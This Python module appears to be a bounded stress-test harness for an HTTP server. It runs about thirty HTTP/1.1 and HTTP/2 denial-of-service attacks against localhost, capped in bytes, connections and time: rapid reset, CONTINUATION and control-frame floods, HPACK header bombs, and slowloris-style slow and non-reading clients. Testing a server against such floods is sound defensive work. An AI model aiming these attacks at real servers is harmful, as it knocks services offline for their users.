"""What floods.py sends: bounded in bytes, connections and time. Each attack is a function of a port and seconds, and says what it did."""

import contextlib
import select
import socket
import struct
import time

import field_blocks as hpack
import frames
from client2 import asked

OPEN, END = frames.END_HEADERS, frames.END_HEADERS | frames.END_STREAM
CONNECTIONS = 4
RECONNECTS_MAX = 2_000
BYTES_MAX = 256 << 20
BURST = 200
GET, POST = hpack.encode(asked(b"/")), hpack.encode(asked(b"/", b"POST"))


class Flooder:
    """One connection after the other, each told the same; what comes back is read and dropped."""

    def __init__(self, port, burst, start):
        self.port, self.burst, self.start = port, burst, start
        self.socket, self.waiting, self.stream, self.opened = None, b"", 1, 0
        self.bursts = self.bytes = 0

    def connect(self):
        self.socket = socket.create_connection(("127.0.0.1", self.port), 2)
        self.socket.setblocking(False)
        self.waiting, self.stream, self.opened = self.start, 1, self.opened + 1

    def turn(self):
        """Reads and writes what it can; whether there is more to do."""
        if self.socket is None:
            if self.opened >= RECONNECTS_MAX:
                return False
            self.connect()
        if not self.waiting:
            self.waiting, self.stream = self.burst(self.stream)
            self.bursts += 1
        try:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.01)
            if readable and not self.socket.recv(1 << 18):
                raise ConnectionError
            if writable:
                sent = self.socket.send(self.waiting)
                self.waiting, self.bytes = self.waiting[sent:], self.bytes + sent
        except BlockingIOError:
            pass
        except OSError:
            self.socket.close()
            self.socket = None
        return self.bytes < BYTES_MAX // CONNECTIONS and self.stream < (1 << 30)


def storm(burst, count=BURST, start=frames.PREFACE + frames.hello()):
    """An attack by bursts of `count` times the same."""
    def attack(port, seconds):
        flooders = [Flooder(port, burst, start) for _ in range(CONNECTIONS)]
        deadline = time.monotonic() + seconds
        going = list(flooders)
        while going and time.monotonic() < deadline:
            for flooder in list(going):
                with contextlib.suppress(OSError):
                    if not flooder.turn():
                        going.remove(flooder)
        for flooder in flooders:
            if flooder.socket is not None:
                flooder.socket.close()
        total = sum(flooder.bursts for flooder in flooders) * count
        return f"{total:,} times, {sum(f.bytes for f in flooders) / 1e6:.1f} MB, {sum(f.opened for f in flooders)} connections"
    return attack


def each_stream(pieces):
    """A burst of streams: `pieces(stream)` for each."""
    def burst(stream):
        return b"".join(pieces(at) for at in range(stream, stream + 2 * BURST, 2)), stream + 2 * BURST
    return burst


def head(stream, encoded, flags):
    return frames.frame(frames.HEADERS, flags, stream, encoded)


def same(data, count=BURST):
    return lambda stream: (data * count, stream)


def on_one_stream(first, again):
    """The first stream is opened once on each connection; then the same frames again and again."""
    def burst(stream):
        return (first + again * BURST, 3) if stream == 1 else (again * BURST, stream)
    return burst


BOMB = GET + hpack.indexed(b"x", b"y" * 4_000) + b"\xbe" * 12_000
BOMB_AGAIN = GET + b"\xbe" * 15_000


def bomb(stream):
    return frames.block(stream, BOMB if stream == 1 else BOMB_AGAIN, END), stream + 2


def many(count, begin, more, each_seconds):
    """`count` connections that send `begin`, then one piece of `more` each so often; none reads."""
    def attack(port, seconds):
        deadline, sockets, refused, closed, at = time.monotonic() + seconds, [], 0, 0, 0
        for _ in range(count):
            try:
                sockets.append(socket.create_connection(("127.0.0.1", port), 2))
                sockets[-1].setblocking(False)
                sockets[-1].send(begin)
            except OSError:
                refused += 1
        while time.monotonic() < deadline:
            time.sleep(min(each_seconds, max(0, deadline - time.monotonic())))
            piece, at = more(at) if more else b"", at + 1
            for each in list(sockets) if piece else []:
                try:
                    each.send(piece)
                except BlockingIOError:
                    pass
                except OSError:
                    closed += 1
                    sockets.remove(each)
                    each.close()
        for each in sockets:
            each.close()
        return f"{count} connections, {refused} refused, {closed} closed"
    return attack


def no_reader(streams, initial_window, connection_window):
    hello = frames.PREFACE + frames.settings((frames.INITIAL_WINDOW_SIZE, initial_window), (frames.ENABLE_PUSH, 0))
    hello += frames.window(0, connection_window) if connection_window else b""
    return hello + b"".join(frames.headers(at, asked(b"/endless")) for at in range(1, 2 * streams, 2))


SLOW_HEAD = b"GET / HTTP/1.1\r\nHost: a\r\n"
SLOW_BODY = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"
HELLO = frames.PREFACE + frames.hello()
ENDLESS = b"GET /endless HTTP/1.1\r\nHost: a\r\n\r\n"
PING, PRIORITY = frames.frame(frames.PING, 0, 0, b"\0" * 8), frames.frame(frames.PRIORITY, 0, 1, struct.pack(">IB", 0, 15))
MALFORMED = hpack.encode([*asked(b"/"), (b"connection", b"close")])
SHORT = hpack.encode([*asked(b"/", b"POST"), (b"content-length", b"1")])

ALL = {
    "nothing": lambda port, seconds: time.sleep(seconds) or "nothing",
    "rapid reset": storm(each_stream(lambda at: head(at, GET, END) + frames.reset(at, frames.CANCEL))),
    "rapid reset within the body": storm(each_stream(lambda at: head(at, POST, OPEN) + frames.data(at, b"x", 0) + frames.reset(at, frames.CANCEL))),
    "resets provoked: window made larger by 0": storm(each_stream(lambda at: head(at, GET, END) + frames.window(at, 0))),
    "resets provoked: window past 2^31": storm(each_stream(lambda at: head(at, POST, OPEN) + frames.window(at, 0x7fffffff))),
    "resets provoked: data behind the end": storm(each_stream(lambda at: head(at, GET, END) + frames.data(at, b"x"))),
    "resets provoked: fields behind the end": storm(each_stream(lambda at: head(at, GET, END) + head(at, GET, END))),
    "resets provoked: malformed heads": storm(each_stream(lambda at: head(at, MALFORMED, END))),
    "resets provoked: more data than content-length": storm(each_stream(lambda at: head(at, SHORT, OPEN) + frames.data(at, b"xyz"))),
    "resets provoked: PRIORITY of 4 bytes": storm(each_stream(lambda at: head(at, GET, END) + frames.frame(frames.PRIORITY, 0, at, b"\0" * 4))),
    "empty CONTINUATION frames": storm(on_one_stream(head(1, GET, 0), frames.frame(frames.CONTINUATION, 0, 1))),
    "CONTINUATION frames of 16 KiB": storm(on_one_stream(head(1, GET, 0), frames.frame(frames.CONTINUATION, 0, 1, hpack.encode([(b"x", b"y" * 16_370)])))),
    "PING": storm(same(PING)),
    "SETTINGS": storm(same(frames.settings((frames.MAX_CONCURRENT_STREAMS, 5)))),
    "SETTINGS, window up and down": storm(same(frames.settings((frames.INITIAL_WINDOW_SIZE, 1)) + frames.settings((frames.INITIAL_WINDOW_SIZE, 65_535)))),
    "empty DATA": storm(on_one_stream(head(1, POST, OPEN), frames.data(1, b"", 0))),
    "DATA of one byte": storm(on_one_stream(head(1, POST, OPEN), frames.data(1, b"x", 0))),
    "padded DATA of nothing": storm(on_one_stream(head(1, POST, OPEN), frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + b"\0" * 255))),
    "WINDOW_UPDATE by 1": storm(on_one_stream(head(1, POST, OPEN), frames.window(1, 1))),
    "PRIORITY": storm(same(PRIORITY)),
    "frames of an unknown type": storm(same(frames.frame(0xbb, 0, 0, b"x" * 64))),
    "a new connection each": storm(same(frames.frame(frames.DATA, 0, 0, b"x"), 1), 1),
    "header bombs": storm(bomb, 1),
    "500 slow heads, HTTP/1.1": many(500, SLOW_HEAD, lambda at: b"X-%d: y\r\n" % at, 0.5),
    "500 slow bodies, HTTP/1.1": many(500, SLOW_BODY, lambda at: b"x", 0.5),
    "500 slow heads, HTTP/2": many(500, HELLO + head(1, GET, 1), lambda at: frames.frame(frames.CONTINUATION, 0, 1, b"\0\1x\1y"), 0.5),
    "500 slow bodies, HTTP/2": many(500, HELLO + head(1, POST, OPEN), lambda at: frames.data(1, b"x", 0), 0.5),
    "500 slow prefaces": many(500, frames.PREFACE[:5], lambda at: frames.PREFACE[5 + at:6 + at], 0.5),
    "64 who do not read, HTTP/1.1": many(64, ENDLESS, None, 0.5),
    "64 who do not read, HTTP/2, the first window": many(64, no_reader(1, 65_535, 0), None, 0.5),
    "64 who do not read, HTTP/2, no window": many(64, no_reader(1, 0, 0), None, 0.5),
    "64 who do not read, HTTP/2, the largest window": many(64, no_reader(1, 0x7fffffff, 0x7fffffff - 65_535), None, 0.5),
    "64 streams that are not read, on one connection": many(1, no_reader(64, 0x7fffffff, 0x7fffffff - 65_535), None, 0.5),
}
